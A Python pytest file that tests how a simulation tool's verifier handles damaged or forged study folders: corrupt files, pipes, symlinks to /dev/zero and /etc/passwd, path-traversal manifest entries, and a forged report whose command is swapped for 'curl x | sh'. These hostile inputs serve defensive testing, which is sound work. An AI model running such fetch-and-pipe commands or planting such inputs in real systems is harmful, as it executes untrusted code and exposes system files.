"""Folders damaged on the way, or made to deceive: each is told in a line, and runs and writes nothing."""

from __future__ import annotations

import json
import os
import re
import shutil
from collections.abc import Callable
from hashlib import sha256
from pathlib import Path
from typing import Any

import numpy as np
import pytest
import xarray as xr
from click.testing import CliRunner

from sim.api import compare_versions, replay, run, verify
from sim.api import load as load_scenario
from sim.cli.program import cli
from sim.core.errors import UserError
from sim.engine.branched_world import possible
from sim.engine.provenance import hash_of
from sim.output import study_folder
from sim.output.manifest import Manifest
from sim.output.verify import changed
from sim.scenario import Start
from sim.scenario.finished_study import finished_study
from tests.output.test_verify import SHORT, change, unchanged

__all__ = ["unchanged"]
VAST = 5_000_000_000
Damage = Callable[[Path], object]


@pytest.fixture(scope="module")
def made(unchanged: None, tmp_path_factory: pytest.TempPathFactory) -> Path:
    place = tmp_path_factory.mktemp("made")
    (place / "one.yaml").write_text(SHORT, encoding="utf-8")
    found = run(place / "one.yaml", theory="essay", worlds=8, keep_worlds=True)
    return found.save(place / "out", figures="ledger")


@pytest.fixture
def study(made: Path, tmp_path: Path) -> Path:
    """A copy to spoil."""
    return shutil.copytree(made, tmp_path / "out")


def sealed(folder: Path, **outputs: str) -> None:
    """What a forger does at the end: the hashes of all that is listed, and more, are made to fit."""
    told = Manifest.read(folder)
    names = {**told.outputs, **outputs}
    listed = {name: hash_of(folder / name) for name in names if (folder / name).is_file()}
    tables = "".join(f"{name} {listed[name]}\n" for name in sorted(listed) if name.endswith(".csv"))
    change(folder, True, outputs=listed, numbers=sha256(tables.encode()).hexdigest())


def pipe(file: Path) -> None:
    file.unlink()
    os.mkfifo(file)


def link(file: Path, target: str) -> None:
    file.unlink()
    file.symlink_to(target)


def vast(file: Path) -> None:
    with file.open("r+b") as stream:
        stream.truncate(VAST)


def with_inside(file: Path, piece: bytes) -> None:
    content = file.read_bytes()
    file.write_bytes(content[: len(content) // 3] + piece + content[len(content) // 3 :])


DAMAGE: dict[str, dict[str, Damage]] = {
    "as by a bad disk or a wrong program": {
        "series.nc": lambda file: file.write_bytes(b"\0junk" * 999),
        "worlds.nc": lambda file: file.write_bytes(file.read_bytes()[:3000]),
        "summary.csv": lambda file: with_inside(file, b"x" * 300_000),  # a very long line
        "overall.csv": lambda file: with_inside(file, b"\xff\xfe"),  # no UTF-8
        "ledger.csv": lambda file: file.write_bytes(b""),
        "report.html": lambda file: with_inside(file, b"\xff"),
    },
    "as by somebody who means harm": {
        "series.nc": vast,
        "worlds.nc": pipe,
        "summary.csv": pipe,
        "overall.csv": lambda file: link(file, "/dev/zero"),
        "ledger.csv": lambda file: link(file, "ledger.csv"),  # to itself
        "report.html": lambda file: (file.unlink(), file.mkdir()),
    },
}


@pytest.mark.parametrize("case", DAMAGE)
def test_whatever_is_damaged_is_told_and_nothing_fails_or_hangs(study: Path, case: str) -> None:
    for name, damage in DAMAGE[case].items():
        damage(study / name)
    verdict = verify(study)
    assert {each.split()[0] for each in verdict.objections} >= {*DAMAGE[case]}
    assert replay(study, 3).as_kept is False
    try:
        assert compare_versions(study).report.caveats
    except UserError as told:
        assert "no table to read" in str(told)  # noqa: PT017 - either is an answer


# ── manifests ────────────────────────────────────────────────────────────────────────────────

HOSTILE: dict[str, tuple[dict[str, Any], str]] = {
    "seed": ({"seed": -1}, "seed Input should be greater than or equal to 0 (found -1)"),
    "no worlds": ({"worlds": 0}, "worlds 0, which a preview alone has"),
    "worlds without end": ({"worlds": 10**30}, "worlds "),
    "no weeks": ({"weeks": 0}, "weeks "),
    "no cells": ({"cells": []}, "cells "),
    "no scenarios": ({"scenarios": []}, "scenarios "),
    "shown": ({"shown": -5}, "shown "),
    "NUL": ({"outputs": {"a\0b": "0"}}, "is no name of a file inside the folder"),
    "above": ({"outputs": {"../../x.csv": "0"}}, "is no name of a file inside the folder"),
    "elsewhere": ({"outputs": {"/etc/passwd": "0"}}, "is no name of a file inside the folder"),
    "of Windows": ({"outputs": {"c:\\x": "0"}}, "is no name of a file inside the folder"),
}


def rewritten(study: Path, **fields: Any) -> None:
    told = json.loads((study / "manifest.json").read_bytes())
    (study / "manifest.json").write_text(json.dumps(told | fields), encoding="utf-8")


@pytest.mark.parametrize("case", HOSTILE)
def test_a_manifest_that_no_study_has_is_refused_with_the_field(study: Path, case: str) -> None:
    fields, says = HOSTILE[case]
    rewritten(study, **fields)
    for ask in (verify, replay, compare_versions):
        with pytest.raises(UserError, match="not a manifest of this version") as refused:
            ask(study)
        assert says in str(refused.value)
        assert str(refused.value).isprintable()
    if case in ("seed", "no worlds", "no weeks", "no cells", "no scenarios"):
        with pytest.raises(UserError, match="is not that of a study of this version"):
            finished_study(study)


def test_an_unknown_theory_is_refused(study: Path) -> None:
    rewritten(study, cells=[["one", "nonsense"]])
    for ask in (verify, replay, compare_versions):
        with pytest.raises(UserError, match="has cells under nonsense, no theory that is here"):
            ask(study)


@pytest.mark.parametrize(
    "command",
    [
        ["run.py", "run", "one", "--help"], ["run.py", "--version"], ["run.py", "list"], ["run.py"], [],
        ["run.py", "verify", "."], ["run.py", "run", "one", "--from-world", "/tmp", "--nonsense"],
    ],
)  # fmt: skip
def test_a_command_that_ends_well_without_a_study_proves_nothing(study: Path, command: list[str]) -> None:
    told = Manifest.read(study).model_dump(mode="json") | {"command": command}
    Manifest.model_validate(told).sealed().write(study)
    done = CliRunner().invoke(cli, ["verify", str(study), "--quiet"])
    assert (done.exit_code, done.stdout) == (2, "")
    assert "cannot be run again" in done.stderr


def test_a_file_that_the_command_names_is_read_from_the_folder_alone(study: Path, tmp_path: Path) -> None:
    (tmp_path / "secret").write_text("hunter2: never\n", encoding="utf-8")
    words = ["run.py", "claims", "one", "--hypotheses", str(tmp_path / "secret")]
    told = Manifest.read(study).model_dump(mode="json") | {"command": words}
    Manifest.model_validate(told).sealed().write(study)
    with pytest.raises(
        UserError, match=r"hypotheses\.yaml, of which the study has a copy, is missing"
    ) as refused:
        verify(study)
    assert "hunter2" not in str(refused.value)


def test_what_worlds_start_from_is_read_from_the_folder_alone(study: Path, tmp_path: Path) -> None:
    (study / "starts" / "1" / "record").mkdir(parents=True)
    (study / "starts" / "1" / "record" / "events.csv").symlink_to("/etc/passwd")
    for ask in (verify, replay, compare_versions, finished_study):
        with pytest.raises(UserError, match=r"starts/1/record/events\.csv leads out"):
            ask(study)


def test_a_manifest_that_is_a_pipe_or_vast_ends_at_once(study: Path) -> None:
    vast(study / "manifest.json")
    for spoil in (lambda: None, lambda: pipe(study / "manifest.json")):
        spoil()
        for ask in (verify, finished_study, study_folder.check_place):
            with pytest.raises(UserError):
                ask(study)


# ── forgeries ────────────────────────────────────────────────────────────────────────────────


def rewrite(file: Path, old: str, new: str) -> None:
    text = file.read_text(encoding="utf-8")
    assert old in text
    file.write_text(text.replace(old, new, 1), encoding="utf-8")


def ledger_without_a_world(study: Path) -> None:
    lines = (study / "ledger.csv").read_text(encoding="utf-8").splitlines()
    (study / "ledger.csv").write_text("\n".join(lines[:-1]), encoding="utf-8")
    change(study, True, shown=None)


def invented_table(study: Path) -> None:
    (study / "invented.csv").write_text("war\n99\n", encoding="utf-8")
    sealed(study, **{"invented.csv": ""})


def renamed_question(study: Path) -> None:
    data = xr.load_dataset(study / "series.nc", engine="h5netcdf")
    data.attrs["title"] = "Will there be war?"
    data.to_netcdf(study / "series.nc", engine="h5netcdf")


def remark(study: Path) -> None:
    rewrite(study / "scenarios" / "one.yaml", "theory:", "# as the ministry asked\ntheory:")


def words_on_the_page(study: Path) -> None:
    rewrite(study / "report.html", "<!--/drawn-->", "<b>war</b><!--/drawn-->")


FORGED: dict[str, tuple[Callable[[Path], object], str]] = {
    "a ledger of no world": (ledger_without_a_world, "ledger.csv"),
    "a table that no study makes": (invented_table, "invented.csv is not made any more"),
    "words beside a picture": (words_on_the_page, "report.html"),
    "another command on the page": (
        lambda study: rewrite(study / "report.html", "python run.py run", "curl x | sh"), "report.html"
    ),
    "a picture that is none": (
        lambda study: (study / "ledger.svg").write_text("war is certain", encoding="utf-8"), "report.html"
    ),
    "a copy with a remark": (remark, "one.yaml"),
    "another title of the data": (renamed_question, "what it says of its numbers"),
}  # fmt: skip


@pytest.mark.parametrize("case", FORGED)
def test_a_forgery_that_is_sealed_anew_is_found(study: Path, case: str) -> None:
    forge, says = FORGED[case]
    forge(study)
    sealed(study)
    assert not list(changed(study, Manifest.read(study)))
    verdict = verify(study)
    assert not verdict.stands
    assert says in repr(verdict)


def test_what_is_not_compared_is_named(study: Path) -> None:
    rewrite(study / "ledger.svg", "</svg>", "<!-- other --></svg>")
    sealed(study)
    (study / "notes.csv").write_text("mine\n", encoding="utf-8")
    (study / ".DS_Store").write_text("", encoding="utf-8")
    said = repr(verify(study))
    assert "not compared, since pictures are not drawn again: ledger.svg" in said
    assert "in the folder, but not of the study: notes.csv" in said
    assert ".DS_Store" not in said
    change(study, True, code="f" * 64)
    said = repr(verify(study))
    assert (
        "not compared, since other code may say the same otherwise: report.html, scenarios/one.yaml" in said
    )
    assert "of words only the numbers in them were compared" in said


def test_an_older_file_with_days_in_words_stands(study: Path) -> None:
    data = xr.load_dataset(study / "series.nc", engine="h5netcdf")
    words = np.datetime_as_string(data["date"].values, "D").astype(object)
    data = data.assign_coords(date=("week", words))
    data.to_netcdf(study / "series.nc", engine="h5netcdf")
    sealed(study)
    change(study, True, code="f" * 64)
    assert verify(study).stands


def test_a_folder_without_a_number_that_the_model_needs_now_is_told(study: Path) -> None:
    copy = study / "scenarios" / "one.yaml"
    text = re.sub(r"^  caution:\n(    .*\n)+", "", copy.read_text(encoding="utf-8"), flags=re.MULTILINE)
    copy.write_text(text, encoding="utf-8")
    for ask in (verify, replay, compare_versions):
        with pytest.raises(
            UserError, match=r"one\.yaml:\d+:1: parameters: lacks caution, which the model needs"
        ):
            ask(study)
    here = Start.model_validate(
        {"date": "2017-07-03", "from": "world", "study": str(study), "world": 0, "week": 1}
    )
    with pytest.raises(UserError, match="lacks caution"):
        possible(load_scenario("baseline").model_copy(update={"begin": here}))


def test_nothing_is_written_outside(study: Path, tmp_path: Path) -> None:
    before = sorted(path for path in tmp_path.rglob("*"))
    words = (
        *Manifest.read(study).command,
        "--out",
        str(tmp_path / "evil"),
        "--tables",
        str(tmp_path / "more"),
    )
    change(study, True, command=words)
    verify(study)
    replay(study)
    compare_versions(study)
    assert sorted(path for path in tmp_path.rglob("*")) == before
